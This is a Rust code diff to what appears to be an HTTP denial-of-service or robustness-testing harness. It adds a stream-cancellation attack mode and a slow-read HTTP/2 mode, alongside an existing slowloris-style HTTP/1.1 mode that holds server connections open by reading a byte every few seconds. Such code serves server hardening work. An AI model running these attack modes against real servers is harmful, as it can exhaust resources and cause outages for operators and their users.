@@ -10,6 +10,7 @@ use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 use tokio::time::sleep;
 
+use super::cancel::cancel;
 use super::first::{bytes, stream};
 use super::{Attack, Plan};
 use crate::frames::{Block, Frame, Wire, flag, kind, setting, status};
@@ -32,12 +33,16 @@ pub(super) struct Seen {
     pub(super) reset: AtomicU64,
     /// Bytes of uploads that were sent.
     pub(super) sent: AtomicU64,
+    /// Streams that were cancelled, and connections that had all their credit again after the last.
+    pub(super) cancelled: AtomicU64,
+    pub(super) whole: AtomicU64,
 }
 
 /// Attacks until the server ends it, or it is dropped.
 pub(super) async fn run(attack: Attack, plan: Arc<Plan>, tcp: TcpStream, seen: Arc<Seen>) {
     let ended = match attack {
-        Attack::Slow => sip(tcp, &plan, &seen).await,
+        Attack::Cancel => cancel(tcp, &plan, &seen).await,
+        Attack::Slow | Attack::SlowHttp2 => sip(attack, tcp, &plan, &seen).await,
         _ => frames(attack, tcp, &plan, &seen).await,
     };
     // Why it ended makes no difference to who attacks.
@@ -45,16 +50,37 @@ pub(super) async fn run(attack: Attack, plan: Arc<Plan>, tcp: TcpStream, seen: A
     seen.ended.fetch_add(1, Relaxed);
 }
 
-/// A request, and then a byte every few seconds.
-async fn sip(mut tcp: TcpStream, plan: &Plan, seen: &Seen) -> io::Result<()> {
-    tcp.write_all(format!("GET {} HTTP/1.1\r\nHost: a.example\r\n\r\n", plan.path).as_bytes()).await?;
+/// Requests, and then a byte every few seconds.
+async fn sip(attack: Attack, mut tcp: TcpStream, plan: &Plan, seen: &Seen) -> io::Result<()> {
+    let first = match attack {
+        Attack::SlowHttp2 => bytes(attack, plan),
+        _ => format!("GET {} HTTP/1.1\r\nHost: a.example\r\n\r\n", plan.path).into_bytes(),
+    };
+    tcp.write_all(&first).await?;
     seen.begun.fetch_add(1, Relaxed);
-    if tcp.read_u8().await.is_ok() {
+    if attack == Attack::SlowHttp2 {
+        until_answered(&mut tcp).await?;
+        seen.answered.fetch_add(1, Relaxed);
+    } else if tcp.read_u8().await.is_ok() {
         seen.answered.fetch_add(1, Relaxed);
     }
     loop {
         sleep(SIP).await;
         tcp.read_u8().await?;
+    }
+}
+
+/// Reads to the first frame of an answer, and no further.
+async fn until_answered(tcp: &mut TcpStream) -> io::Result<()> {
+    loop {
+        let mut head = [0; 9];
+        tcp.read_exact(&mut head).await?;
+        let [a, b, c, found, ..] = head;
+        if found == kind::HEADERS {
+            return Ok(());
+        }
+        let length = u64::from(u32::from_be_bytes([0, a, b, c]));
+        tokio::io::copy(&mut (&mut *tcp).take(length), &mut tokio::io::sink()).await?;
     }
 }
 
